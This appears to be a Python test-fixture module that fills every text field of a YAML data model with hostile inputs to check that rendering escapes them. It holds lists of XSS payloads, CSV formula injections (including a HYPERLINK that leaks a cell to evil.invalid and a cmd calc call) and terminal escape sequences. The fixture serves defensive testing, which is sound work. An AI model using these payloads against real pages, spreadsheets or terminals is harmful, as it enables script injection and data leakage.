"""HTML/JS payloads and a valid model whose every text field carries them.

Pages made from such a model must show each payload as the text it is: no dialog, no
changed title, no element parsed from model text, no request. The payloads set
``window.__pwned`` or open a dialog when they run, and every element they would create
carries ``data-pwned`` or the id ``pwned``, so a browser test can look for all three.
"""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import yaml

PAYLOADS: list[str] = [
    "<script>window.__pwned=1;alert('script')</script>",
    "</script><script>window.__pwned=1;alert('breakout')</script>",
    "<img src=x data-pwned=1 onerror=\"window.__pwned=1;alert('img')\">",
    "<svg data-pwned=1 onload=\"window.__pwned=1;alert('svg')\"></svg>",
    "\"><img src=x data-pwned=1 onerror=alert('attr')>",
    "'><script>window.__pwned=1</script>",
    '<iframe data-pwned=1 srcdoc="<script>parent.__pwned=1;parent.alert(1)</script>"></iframe>',
    "<a data-pwned=1 href=\"javascript:window.__pwned=1;alert('a')\">click</a>",
    "javascript:window.__pwned=1;alert('url')",
    '<b id="pwned" data-pwned=1>bold</b>',
    "<details data-pwned=1 open ontoggle=\"window.__pwned=1;alert('details')\">x</details>",
    "<input data-pwned=1 autofocus onfocus=\"window.__pwned=1;alert('focus')\">",
    "<style data-pwned=1>body{display:none}</style>",
    '<link data-pwned=1 rel=stylesheet href="https://evil.invalid/x.css">',
    '<base data-pwned=1 href="https://evil.invalid/">',
    '<meta data-pwned=1 http-equiv="refresh" content="0;url=https://evil.invalid/">',
    "<math data-pwned=1><mi xlink:href=\"javascript:alert('math')\">m</mi></math>",
    "<!--",
    "]]><!-- --><![CDATA[",
    "{{7*7}} ${alert('template')} #{1+1} <%= 7*7 %>",
    "\u2028\u2029 line separators \u2028",
    "&lt;script&gt;alert('entity')&lt;/script&gt; &amp; &#60;b&#62;",
    "R&D <x>",
    '\\"};window.__pwned=1;alert("json");//',
    "</title><script>document.title='pwned'</script>",
    "<object data-pwned=1 data=\"javascript:alert('object')\"></object>",
    "<body data-pwned=1 onload=alert('body')>",
    "%3Cscript%3Ealert('encoded')%3C/script%3E",
    "<noscript><p title=\"</noscript><img src=x data-pwned=1 onerror=alert('ns')>\">",
    "href <a href=x>link with href</a>",
]

# An http(s) address (as the format requires: no spaces) that tries to break out of an attribute.
HOSTILE_URL = "https://example.invalid/?q=\"><script>window.__pwned=1;alert('url')</script>"


def hostile_model_data(model_id: str = "hostile") -> dict[str, Any]:
    """A valid model (as plain data) whose every text field holds payloads; ids are slugs."""
    cycle = itertools.cycle(PAYLOADS)

    def text() -> str:
        return next(cycle) + " " + next(cycle)

    def name() -> str:
        return next(cycle)[:300]

    sources = [
        {
            "id": f"bron-{n}",
            "title": name(),
            "publisher": name(),
            "year": 2020,
            "url": HOSTILE_URL,
            "accessed": name(),
        }
        for n in range(2)
    ]
    phases = [
        {
            "id": f"fase-{n}",
            "name": name(),
            "description": text(),
            "signals": [
                {"text": text(), "about": "victim", "sources": ["bron-0"]},
                {"text": text(), "about": "offender"},
                {"text": text()},
            ],
            "opportunities": [text(), {"text": text(), "sources": ["bron-1"]}],
            "facilitators": [
                {"text": text(), "awareness": "knowing"},
                {"text": text(), "awareness": "unknowing"},
                text(),
            ],
            "sources": ["bron-0"],
        }
        for n in range(4)
    ]
    phases[0]["next"] = ["fase-1", "fase-2"]
    phases[1]["next"] = ["fase-3"]
    phases[2]["next"] = ["fase-3"]
    partners = [
        {
            "id": f"partner-{n}",
            "name": name(),
            "sector": name(),
            "description": text(),
            "url": HOSTILE_URL,
            "sources": ["bron-1"],
        }
        for n in range(4)
    ]
    interventions = [
        {
            "id": f"barriere-{n}",
            "name": name(),
            "phases": [f"fase-{n % 3}"] + (["fase-1", "fase-2"] if n == 0 else []),
            "partners": [f"partner-{n % 3}"] + (["partner-1"] if n == 3 else []),
            "type": name(),
            "description": text(),
            "legal_basis": [name(), name()],
            "status": "pilot",
            "target_group": [name()],
            "url": HOSTILE_URL,
            "sources": ["bron-0", "bron-1"],
        }
        for n in range(5)
    ]
    return {
        "id": model_id,
        "title": "</title><script>document.title='pwned'</script><img src=x onerror=alert(1)>",
        "variant": name(),
        "description": text(),
        "language": name(),
        "version": name(),
        "authors": [name(), name()],
        "license": name(),
        "region": name(),
        "sources": sources,
        "phases": phases,
        "partners": partners,
        "interventions": interventions,
    }


def hostile_model_yaml(model_id: str = "hostile") -> str:
    """The YAML text of :func:`hostile_model_data` (it validates: see tests/test_map_render.py)."""
    return yaml.safe_dump(
        hostile_model_data(model_id), allow_unicode=True, sort_keys=False, width=1000
    )


# Text a spreadsheet would run as a formula (OWASP's CSV injection list).
FORMULA_PAYLOADS: list[str] = [
    '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Text that would act on a terminal: clear it, retitle it, plant an OSC 8 link, reorder it.
TERMINAL_PAYLOADS: list[str] = [
    "\x1b[2J\x1b[H cleared",
    "\x1b]0;pwned\x07 window title",
    "\x1b]8;;https://evil.invalid/\x1b\\link\x1b]8;;\x1b\\ osc 8",
    "nul \x00 byte",
    "c1 \x9b31m csi",
    "bidi \u202eevil\u202c \u2066x\u2069",
    "backspace \x08\x08\x08 del \x7f",
]


def injection_model_data(model_id: str = "injection") -> dict[str, Any]:
    """:func:`hostile_model_data` with formula payloads as partner names and terminal payloads
    as phase names (HTML payloads stay everywhere else)."""
    data = hostile_model_data(model_id)
    for partner, payload in zip(data["partners"], FORMULA_PAYLOADS, strict=False):
        partner["name"] = payload
    for phase, payload in zip(data["phases"], TERMINAL_PAYLOADS, strict=False):
        phase["name"] = payload
    data["interventions"][0]["name"] = TERMINAL_PAYLOADS[-1]
    data["interventions"][1]["name"] = FORMULA_PAYLOADS[0]
    return data


def hostile_profile(tmp_path: Path) -> Path:
    """A local profile (and its base, beside it) whose every local text field holds payloads."""
    data: dict[str, Any] = hostile_model_data("hostile-base")
    (tmp_path / "hostile-base.yaml").write_text(yaml.safe_dump(data, allow_unicode=True))
    payloads = iter(PAYLOADS * 4)
    profile = {
        "id": "hostile-here",
        "title": next(payloads),
        "extends": "hostile-base",
        "local": {"area": next(payloads), "date": "2026-11-20", "participants": ["partner-0"]},
        "phases": [{"id": p["id"], "local": {"note": next(payloads)}} for p in data["phases"]],
        "interventions": [
            {
                "id": i["id"],
                "local": {"state": "in-place", "owner": "partner-1", "note": next(payloads)},
            }
            for i in data["interventions"][:2]
        ],
        "checklist": [
            {
                "id": "t",
                "name": next(payloads),
                "questions": [{"id": "q", "text": next(payloads), "interventions": ["barriere-0"]}],
            }
        ],
        "checklist_answers": {"q": {"answer": "partly", "note": next(payloads)}},
        "actions": [{"id": "act", "title": next(payloads)[:300], "note": next(payloads)}],
    }
    path = tmp_path / "hostile-here.yaml"
    path.write_text(yaml.safe_dump(profile, allow_unicode=True))
    return path
